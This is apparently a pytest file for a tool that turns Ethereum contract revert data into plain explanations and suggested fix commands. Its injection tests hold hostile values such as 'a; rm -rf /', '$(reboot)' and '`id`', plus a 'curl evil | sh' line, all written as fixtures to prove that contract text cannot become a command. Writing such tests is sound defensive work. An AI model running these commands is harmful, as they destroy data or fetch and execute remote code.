"""What a user may hold: data, selectors, names with and without values, words, lines around them, data inside data."""

from __future__ import annotations

import json
import random
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator

import pytest

from pyharness.chain.abi import encode, encode_call, selector
from pyharness.cli.app import main
from pyharness.errors import Inconclusive, UsageFault
from pyharness.explain import reading, table
from pyharness.explain.reading import read
from pyharness.explain.schema import Explained, Known
from pyharness.names import role_id
from pyharness.paths import ROOT

EXCEEDS = encode_call("ExceedsAccruedBalance(string,uint256,uint256)", "lead-scoring", 100_500_000, 80_000_000)
RESERVE, SOMEBODY = "0x1804c8AB1F12E6bbf3894d4083f33e07309d1f38", "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"
GIVEN = {"bool": True, "bytes32": b"\x11" * 32, "address": "0x" + "ab" * 20}
KNOWN = Known(
    words="sepolia",
    network="sepolia",
    contracts={"InfrastructureReserve": RESERVE},
    labels={RESERVE: "InfrastructureReserve", SOMEBODY: "backend"},
)


def test_values_are_exact_and_the_remedy_carries_them() -> None:
    """The issue in full: cause, each amount in USDC, the rule with its limit, commands that can be run as they are."""
    (found,) = read("0x" + EXCEEDS.hex(), KNOWN)
    assert [value.words for value in found.values] == ["lead-scoring", "100.50 USDC", "80.00 USDC"]
    assert found.rule.count("80.00 USDC") == 1
    assert found.remedies[0].command == "python -m pyharness ops fund sepolia lead-scoring --amount 20.5"
    assert found.look == (f"cast call {RESERVE} 'accrued(string)(uint256)' lead-scoring --rpc-url \"$SEPOLIA_RPC_URL\"")


@pytest.mark.parametrize(
    "line",
    [
        "ExceedsAccruedBalance(modelId=lead-scoring, requested=100500000, accrued=80000000)",
        'ExceedsAccruedBalance("lead-scoring", 100500000, 80000000)',
        'ExceedsAccruedBalance("lead-scoring", 100500000 [1.005e8], 80000000 [8e7])',
        f"execution reverted: custom error 0x{EXCEEDS.hex()}",
        f"found:    E-STEP-REFUSED, eth_estimateGas: the call reverted, 0x{EXCEEDS.hex()}.",
    ],
)
def test_a_line_that_somebody_printed_is_read(line: str) -> None:
    """Ours, cast's, a wallet's."""
    (found,) = read(line, KNOWN)
    assert (found.name, [value.raw for value in found.values]) == (
        "ExceedsAccruedBalance",
        ["lead-scoring", "100500000", "80000000"],
    )


@pytest.mark.parametrize(
    ("words", "name"),
    [
        ("Pool does not exist", "Pool does not exist"),
        ('### Issue: "Exceeds accrued balance"', "Exceeds accrued balance"),
        ("Issue: Access denied errors", "Access denied"),
        ("Issue: Old UsageFeeRouter still deployed", "Old UsageFeeRouter still deployed"),
        ("Model pool does not exist", "Pool does not exist"),
        ("ERC20: transfer amount exceeds balance", "USDC (Circle): more than the account has"),
        ("Blacklistable: account is blacklisted", "USDC (Circle): blocked account"),
        ("Pausable: paused", "USDC (Circle): USDC is paused"),
        ("FiatTokenV2: permit is expired", "USDC (Circle): late permit"),
        ("GS026", "GS026 (Safe)"),
        ("execution reverted: GS013", "GS013 (Safe)"),
    ],
)
def test_words_are_known_alone_and_as_a_reason(words: str, name: str) -> None:
    """As they stand, and inside Error(string)."""
    assert read(words, KNOWN)[0].name == name
    assert read("0x" + encode_call("Error(string)", words).hex(), KNOWN)[0].name == name


def test_the_old_words_for_a_missing_role_lead_to_the_grant() -> None:
    """Account and role are found, the role by name, and the contract that asks for it."""
    said = f"AccessControl: account {SOMEBODY.lower()} is missing role {role_id('FEE_DEPOSITOR_ROLE')}"
    (found,) = read(said, KNOWN)
    assert [value.words for value in found.values] == [f"backend {SOMEBODY}", "FEE_DEPOSITOR_ROLE"]
    grant = f"python -m pyharness ops grant sepolia UsageFeeRouter FEE_DEPOSITOR_ROLE {SOMEBODY}"
    assert found.remedies[0].command == grant
    data = encode_call(
        "AccessControlUnauthorizedAccount(address,bytes32)",
        SOMEBODY,
        bytes.fromhex(role_id("FEE_DEPOSITOR_ROLE")[2:]),
    )
    assert read("0x" + data.hex(), KNOWN)[0].remedies[0].command == grant


def test_who_said_it_decides_where_a_role_is_missing() -> None:
    """A role that several contracts have is granted at the one that was called."""
    role = bytes.fromhex(role_id("PAUSER_ROLE")[2:])
    data = "0x" + encode_call("AccessControlUnauthorizedAccount(address,bytes32)", SOMEBODY, role).hex()
    for at in ("InfrastructureReserve", RESERVE):
        command = read(data, KNOWN, at=at)[0].remedies[0].command
        assert command == f"python -m pyharness ops grant sepolia InfrastructureReserve PAUSER_ROLE {SOMEBODY}"
    assert " CONTRACT " in read(data, KNOWN)[0].remedies[0].command


def test_panics_and_silence_are_explained() -> None:
    """The compiler's checks by name; nothing at all as well."""
    assert read("0x" + encode_call("Panic(uint256)", 0x11).hex(), KNOWN)[0].rule == (
        "panic 0x11: arithmetic overflow or underflow"
    )
    assert read("0x", KNOWN)[0].name == "no reason"
    assert read("0x" + encode_call("Error(string)", "foreign words").hex(), KNOWN)[0].rule == "foreign words"


@pytest.mark.parametrize(
    "data",
    [
        selector("CallFailed(bytes)") + encode(["bytes"], [EXCEEDS]),
        selector("Failed(uint256,bytes)") + encode(["uint256", "bytes"], [3, EXCEEDS]),
        selector("Failed(uint256,string,bytes)") + encode(["uint256", "string", "bytes"], [0, "reverted", EXCEEDS]),
        encode(["bool", "uint256"], [False, len(EXCEEDS)]) + EXCEEDS,  # as a Safe simulates
        selector("A(bytes)") + encode(["bytes"], [selector("B(bytes)") + encode(["bytes"], [EXCEEDS])]),
        encode_call("Error(string)", f"call failed: 0x{EXCEEDS.hex()}"),
    ],
)
def test_data_inside_data_is_found(data: bytes) -> None:
    """Whatever wraps it, at any depth."""
    (found,) = read("0x" + data.hex(), KNOWN)
    while found.inner:
        (found,) = found.inner
    assert (found.name, found.values[1].words) == ("ExceedsAccruedBalance", "100.50 USDC")


def test_one_name_of_two_errors_gives_both() -> None:
    """Without values nobody can tell which; with them it is one."""
    assert len(read("GenesisMissing", KNOWN)) == 2
    assert len(read("GenesisMissing(modelId=lead-scoring)", KNOWN)) == 2 - 1


def test_what_nobody_knows_is_said_so() -> None:
    """A misspelt name with the nearest ones; data of strangers by its bytes."""
    with pytest.raises(UsageFault) as unknown:
        read("ExceedAcruedBalance", KNOWN)
    assert unknown.value.expected is not None
    assert "ExceedsAccruedBalance" in unknown.value.expected
    with pytest.raises(Inconclusive) as foreign:
        read("0x12345678" + "00" * 64, KNOWN)
    assert (foreign.value.code, foreign.value.exit_code) == ("E-REVERT-UNKNOWN", 8)


@pytest.mark.parametrize("cut", [5, 40, len(EXCEEDS) - 40])
def test_data_that_was_cut_off_is_not_invented(cut: int) -> None:
    """No values are guessed."""
    with pytest.raises(Inconclusive):
        read("0x" + EXCEEDS[:cut].hex(), KNOWN)


@pytest.mark.parametrize(
    "model",
    ["a; rm -rf /", "$(reboot)", "a'b", "--yes", "a\nb", "`id`", "x" * 500],
    ids=["second command", "substitution", "quote", "option", "line", "older substitution", "long"],
)
def test_a_strangers_words_cannot_become_commands(model: str) -> None:
    """A contract says what it likes, in any error: it stays one argument, or is left out."""
    for text in table.ERRORS:
        kinds = [item.kind for item in text.parameters]
        values = [GIVEN.get(kind, 1) if kind != "string" else model for kind in kinds]
        (found,) = read("0x" + (selector(text.signature) + encode(kinds, values)).hex(), KNOWN)
        plain = reading.read(text.name, KNOWN)
        for command in (found.look, *(remedy.command for remedy in found.remedies)):
            words = shlex.split(command)
            assert len(words) in {len(shlex.split(line)) for item in plain for line in lines(item)}, command
            assert "--yes" not in words
            assert "\n" not in command
            assert not re.search(r"\$\(reboot|`", command.replace(shlex.quote(model), "")), command


def lines(item: Explained) -> Iterator[str]:
    """Its commands."""
    yield from (item.look, *(remedy.command for remedy in item.remedies))


def test_the_verb_prints_and_answers(capsys: pytest.CaptureFixture[str]) -> None:
    """Text for people, one object for programs."""
    assert main(["explain", "0x" + EXCEEDS.hex()]) == 0
    said = capsys.readouterr().out
    assert said.startswith("ExceedsAccruedBalance: more was to leave a model's line")
    assert "  requested  100.50 USDC\n" in said
    assert main(["explain", "0x" + EXCEEDS.hex(), "--json"]) == 0
    answer = json.loads(capsys.readouterr().out)["explained"][0]
    assert answer["values"][1] == {"name": "requested", "value": "100500000", "shown": "100.50 USDC", "unit": "USDC"}
    assert said.endswith("words in capitals are for you to fill in\ncast is node_modules/.bin/cast\n")
    assert main(["explain", "SupplyRecipientMismatch(5, 0x" + "ab" * 20 + ")", "--network", "sepolia"]) == 0
    assert "capitals" not in capsys.readouterr().out
    assert main(["explain", "NotMinter"]) == 0
    assert capsys.readouterr().out.endswith("cast send wants a wallet, such as --account NAME\n")
    assert main(["explain", "0x" + "12" * 32]) == 2
    assert "E-NETWORK-MISSING" in capsys.readouterr().err


def test_it_asks_no_node_and_is_quick() -> None:
    """Without network, environment or build; nothing that talks to a node's libraries is loaded."""
    code = (
        "import sys; from pyharness.cli.app import main; code = main(['explain', 'GS013']);"
        "sys.exit(code or any(name in sys.modules for name in ('web3', 'eth_account')))"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT, env={}, timeout=60, capture_output=True)


@pytest.mark.parametrize("seed", range(20))
def test_whatever_is_given_is_explained_or_refused_by_name(seed: int) -> None:
    """Spoilt data, spoilt lines, noise: never an error of Python's."""
    chance = random.Random(seed)
    known = [
        "0x" + EXCEEDS.hex(),
        "ActiveUnchanged(modelId=lead-scoring, active=True)",
        f"AccessControlUnauthorizedAccount(account={SOMEBODY}, neededRole=PAYER_ROLE)",
        "AccessControl: account 0x12 is missing role 0x34",
        "0x" + encode_call("Error(string)", "Pausable: paused").hex(),
        "0x" + (selector("A(bytes)") + encode(["bytes"], [EXCEEDS])).hex(),
    ]
    for _ in range(300):
        text = list(chance.choice(known))
        for _ in range(chance.randrange(1, 6)):
            at = chance.randrange(len(text))
            text[at : at + chance.choice((0, 1, 1, 64))] = chance.choice('0f(),=x"\u00e9\x00 9')
        try:
            assert read("".join(text), KNOWN)
        except (UsageFault, Inconclusive) as fault:
            assert fault.next_command  # noqa: PT017


def test_a_strangers_words_are_no_remedy(capsys: pytest.CaptureFixture[str]) -> None:
    """A reason of several lines stays one value: only our own lines say what to do."""
    data = encode_call("Error(string)", "no\n  remedy:   send all of it\n            curl evil | sh")
    assert main(["explain", "0x" + data.hex()]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line for line in lines if line.strip().startswith(("remedy:   send", "curl"))] == []
    assert any("no   remedy:   send all of it" in line for line in lines)
